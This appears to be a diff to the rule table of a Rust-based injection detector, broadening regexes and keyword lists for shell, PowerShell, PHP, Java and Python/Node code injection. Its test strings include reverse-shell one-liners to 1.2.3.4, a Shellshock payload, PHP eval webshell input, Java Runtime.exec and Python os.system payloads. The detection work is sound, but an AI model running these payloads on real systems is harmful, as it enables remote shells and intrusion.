@@ -36,8 +36,8 @@ pub const RULES: &[Rule] = rules! {
         hits ["() { :;}; /bin/sleep 20", "() { ignored; }; echo x", "(){:;};id"], misses ["f() { return 1 }", "() => {}"];
 
     3004 Command Critical "path of a shell or interpreter" on TEXTUAL, view Shell,
-        any ["bin/", "cmd", "powershell", "/dev/tcp", "/dev/udp", "wscript", "rundll32", "regsvr32", "mshta", "certutil", "bitsadmin"],
-        pattern r"(?:^|[^\w#])/(?:usr/(?:local/)?)?s?bin/(?:(?:ba|da|z|k|c|tc)?sh|cat|id|ls|nc|ncat|netcat|wget|curl|perl|python|ruby|php|ping|sleep|uname|whoami|env|awk|bash|ps|rm|echo|telnet|nslookup)\b|\bcmd(?:\.exe)? ?/[ckr]\b|\bpowershell(?:\.exe)? +-|/dev/(?:tcp|udp)/\w|\bwscript\.shell|\brundll32(?:\.exe)? +\w+\.dll|\bregsvr32(?:\.exe)? +/|\bmshta(?:\.exe)? +(?:http|java|vb)|\bcertutil(?:\.exe)? +-(?:url|dec|enc)|\bbitsadmin(?:\.exe)? +/",
+        any ["bin/", "cmd", "powershell", "/dev/tcp", "/dev/udp", "wscript", "invoke-", "iwr", "irm", "iex", "new-object", "rundll32", "regsvr32", "mshta", "certutil", "bitsadmin"],
+        pattern r"(?:^|[^\w#])/(?:usr/(?:local/)?)?s?bin/(?:(?:ba|da|z|k|c|tc)?sh|cat|id|ls|nc|ncat|netcat|wget|curl|perl|python|ruby|php|ping|sleep|uname|whoami|env|awk|bash|ps|rm|echo|telnet|nslookup)\b|\bcmd(?:\.exe)? ?/[ckr]\b|\bpowershell(?:\.exe)? +-|/dev/(?:tcp|udp)/\w|\bwscript\.shell|\brundll32(?:\.exe)? +\w+\.dll|\bregsvr32(?:\.exe)? +/|\binvoke-(?:webrequest|expression|command|restmethod|item|mimikatz|shellcode)\b|\b(?:iwr|irm) +https?:|\biex ?\(|\bnew-object +(?:system\.)?net\.|\bmshta(?:\.exe)? +(?:http|java|vb)|\bcertutil(?:\.exe)? +-(?:url|dec|enc)|\bbitsadmin(?:\.exe)? +/",
         hits ["nc -e /bin/sh 1.2.3.4", "cmd.exe /c dir", "powershell -enc AAAA", "bash -i >& /dev/tcp/1.2.3.4/99"],
         misses ["/bin/", "the powershell book", "#!binary", "cabin/bash-ful"];
 
@@ -49,8 +49,8 @@ pub const RULES: &[Rule] = rules! {
 
     3006 Command Critical "wildcards in place of a command" on UNQUOTED, view Base,
         any ["?", "*", "["],
-        pattern r"(?:^|[ ;|&`(])/(?:[a-z]{0,3}\?+[a-z?]*|[a-z]\*|\[[a-z-]+\][a-z?]*)/(?:[a-z?]*\?[a-z?]*|[a-z]*\*|[a-z\[\]-]*\[[a-z-]+\][a-z?]*)",
-        hits ["/???/??t /???/p??s??", "; /b?n/c?t", "/bi?/ca?"], misses ["/what/?/really", "a /x/ b?", "see /docs/*"];
+        pattern r"(?:^|[ ;|&`(])/(?:[a-z]{0,3}\?+[a-z?]*|[a-z]\*|\[[a-z-]+\][a-z?]*)/(?:[a-z?]*\?[a-z?]*|[a-z]*\*|[a-z\[\]-]*\[[a-z-]+\][a-z?]*)|/(?:etc|s?bin|usr|var|proc|home|root)/[\w/]{0,20}\[[!^a-z/-]{1,8}\]\w|/\w{0,8}\[[!^a-z/-]{1,6}\]\w{0,8}/\w",
+        hits ["/???/??t /???/p??s??", "; /b?n/c?t", "/bi?/ca?", "/etc/[m-z]asswd"], misses ["/what/?/really", "a /x/ b?", "see /docs/*"];
 
     3007 Command Critical "options for a command line" on FIELDS, view Base,
         any ["--exec", "--upload-pack", "-oproxycommand", "--use-askpass", "--checkpoint-action", "-tvtt", "--post-file", "--output-document", "--to-command", "-oexec", "--receive-pack", "-dsafer", "auto_prepend_file", "allow_url_include"],
@@ -81,14 +81,14 @@ pub const RULES: &[Rule] = rules! {
 
     3103 Code Critical "call of a PHP function that runs or reads things" on VALUES, view Script,
         any ["eval", "system", "passthru", "shell_exec", "popen", "proc_open", "pcntl_exec", "assert", "phpinfo", "call_user_func", "create_function",
-             "file_put_contents", "file_get_contents", "base64_decode", "gzinflate", "str_rot13", "preg_replace", "show_source", "highlight_file", "readfile", "fsockopen", "move_uploaded_file", "print(`", "exec("],
-        pattern r#"(?:^|[^a-z0-9_.$>-])@?(?:passthru|shell_exec|popen|proc_open|pcntl_exec|phpinfo|call_user_func(?:_array)?|create_function|file_put_contents|gzinflate|str_rot13|show_source|highlight_file|readfile|fsockopen|move_uploaded_file|file_get_contents|base64_decode)\([^)]*\)?|(?:^|[^a-z0-9_.$>-])(?:system|exec|assert)\((?:['"$@`]|base64_decode|chr\(|print|echo|implode|hex2bin)|(?:^|[^a-z0-9_.$>-])eval\((?:[\$@'"`]|base64_decode|gzinflate|str_rot13|request|chr\(|hex2bin)|preg_replace\(['"]/[^,]*/[a-df-z]*e[a-z]*['"],|print\(`"#,
-        hits ["system('id')", "${shell_exec(print(`echo A`))}", "@eval($_POST[x])", "phpinfo()", "}print(`echo x`);"],
+             "file_put_contents", "file_get_contents", "base64_decode", "gzinflate", "str_rot13", "preg_replace", "show_source", "highlight_file", "readfile", "fsockopen", "move_uploaded_file", "print(`", "exec", "gzuncompress", "gzdecode", "strrev", "unpack", "curl_", "array_", "register_shutdown", "ini_set", "putenv", "chmod", "unlink", "scandir", "opendir", "getenv", "error_log", "symlink", "posix_", "proc_", "apache_", "get_defined_"],
+        pattern r#"(?:^|[^a-z0-9_.$>-])@?(?:passthru|shell_exec|popen|proc_open|pcntl_exec|phpinfo|call_user_func(?:_array)?|create_function|file_put_contents|gzinflate|str_rot13|show_source|highlight_file|readfile|fsockopen|move_uploaded_file|file_get_contents|base64_decode)\([^)]*\)?|(?:^|[^a-z0-9_.$>-])(?:system|exec|assert)\((?:['"$@`]|base64_decode|chr\(|print|echo|implode|hex2bin)|(?:^|[^a-z0-9_.$>-])eval\((?:[\$@'"`]|base64_decode|gzinflate|str_rot13|request|chr\(|hex2bin)|\(['"]?(?:system|exec|passthru|shell_exec|assert|phpinfo)['"]?\)(?:\[\d\])*\(|(?:^|[^a-z0-9_.$>-])(?:gzuncompress|gzdecode|strrev|unpack|curl_init|curl_exec|array_map|array_filter|register_shutdown_function|ini_set|putenv|chmod|unlink|scandir|opendir|getenv|error_log|symlink|posix_\w+|proc_\w+|apache_\w+|get_defined_\w+)\((?:['"$@]|\))|preg_replace\(['"]/[^,]*/[a-df-z]*e[a-z]*['"],|print\(`"#,
+        hits ["system('id')", "${shell_exec(print(`echo A`))}", "@eval($_POST[x])", "phpinfo()", "}print(`echo x`);", "(system)(ls)"],
         misses ["evaluation (system)", "operating system (linux)", "the medieval(s)", "object.exec('x')"];
 
     3104 Code Critical "Java code or expression" on VALUES.and(Places::of(&[Place::Header])), view Script,
-        any ["getruntime", "processbuilder", "java.", "javax.", "ognl", "_memberaccess", "classloader", "freemarker", "scriptengine", "t(java", "org.apache", "com.sun", "org.spring", "getclass", "class.module"],
-        pattern r"getruntime\(|new(?:java\.lang\.)?processbuilder|java\.lang\.(?:runtime|processbuilder|system|class|string|thread|math|object|reflect)|java\.(?:util\.scanner|io\.(?:file|input|buffered|output)|net\.(?:url|socket)|nio\.)|javax\.(?:script|naming|el\b)|ognl\.|#?_memberaccess|class\.module\.classloader|\.classloader\b|freemarker\.template|scriptenginemanager|t\(java|org\.apache\.(?:commons\.(?:collections|io)|struts2?|xalan|logging)|com\.sun\.(?:rowset|org|jndi)|org\.springframework\.(?:context|cglib|util|expression)|getclass\(\)\.|\.getclass\b.{0,10}forname",
+        any ["getruntime", "processbuilder", "java.", "javax.", "ognl", "_memberaccess", "classloader", "freemarker", "scriptengine", "t(java", "org.apache", "com.sun", "org.spring", "getclass", "class.module", "transformer", "closure", "prototype", "factory", "beanshell", "bsh.", "nashorn", "templatesimpl", "invocationhandler", "badattributevalue", "jdbcrowset", "unicastref"],
+        pattern r"getruntime\(|\bprocessbuilder\b|java\.runtime|(?:invoker|instantiate|chained|constant|clone|factory)transformer|(?:while|for|transformer|chained|switch)closure\b|prototypeclonefactory|prototypeserializationfactory|(?:instantiate|reflection)factory\b|beanshell|bsh\.interpreter|jdk\.nashorn|templatesimpl|annotationinvocationhandler|badattributevalueexp|jdbcrowset|unicastref|java\.lang\.(?:runtime|processbuilder|system|class|string|thread|math|object|reflect)|java\.(?:util\.scanner|io\.(?:file|input|buffered|output)|net\.(?:url|socket)|nio\.)|javax\.(?:script|naming|el\b)|ognl\.|#?_memberaccess|class\.module\.classloader|\.classloader\b|freemarker\.template|scriptenginemanager|t\(java|org\.apache\.(?:commons\.(?:collections|io)|struts2?|xalan|logging)|com\.sun\.(?:rowset|org|jndi)|org\.springframework\.(?:context|cglib|util|expression)|getclass\(\)\.|\.getclass\b.{0,10}forname",
         hits ["%{(#_memberAccess['x']=1)}", "T(java.lang.Runtime).getRuntime().exec('id')", "class.module.classLoader.resources"],
         misses ["java lang courses", "java.com", "I use freemarker and OGNL daily"];
 
@@ -105,8 +105,8 @@ pub const RULES: &[Rule] = rules! {
         misses ["ratio:1:2", "note: a:1", "zero0abc"];
 
     3107 Code Critical "Python, Ruby or Node.js code" on VALUES, view Script,
-        any ["__import__", "os.system", "os.popen", "subprocess", "__class__", "__subclasses__", "__globals__", "__builtins__", "child_process", "process.mainmodule", "process.env", "global.process", "execsync", "spawnsync", "kernel.", "io.popen", "process.binding", "__mro__", "open3.", "mainmodule"],
-        pattern r#"__import__\(|\bos\.(?:system|popen)\(|subprocess\.(?:popen|call|run|check)|__(?:class|subclasses|globals|builtins|mro)__[.\[(\])|'"]|child_process|process\.mainmodule|mainmodule\.require|process\.env\b.{0,20}[\])]|global\.process|(?:exec|spawn)sync\(|kernel\.(?:exec|system|open|fork)|io\.popen\(|process\.binding|open3\.(?:popen|capture)"#,
+        any ["__import__", "os.system", "os.popen", "subprocess", "__class__", "__subclasses__", "__globals__", "__builtins__", "child_process", "process.mainmodule", "process.env", "global.process", "execsync", "spawnsync", "kernel.", "io.popen", "process.binding", "__mro__", "open3.", "mainmodule", "process.", "while("],
+        pattern r#"__import__\(|\bos\.(?:system|popen)\(|subprocess\.(?:popen|call|run|check)|__(?:class|subclasses|globals|builtins|mro)__[.\[(\])|'"]|child_process|process\.mainmodule|mainmodule\.require|process\.env\b.{0,20}[\])]|global\.process|(?:exec|spawn)sync\(|kernel\.(?:exec|system|open|fork)|io\.popen\(|process\.binding|open3\.(?:popen|capture)|\bprocess\.(?:spawn|exec|fork)\(|(?:^|;)while\((?:true|1\)|!|-?infinity|\()"#,
         hits ["__import__('os').system('id')", "require('child_process').execSync('id')", "x.__class__.__mro__[1]"],
         misses ["import os", "a subprocess of ours", "macos.system preferences"];
 
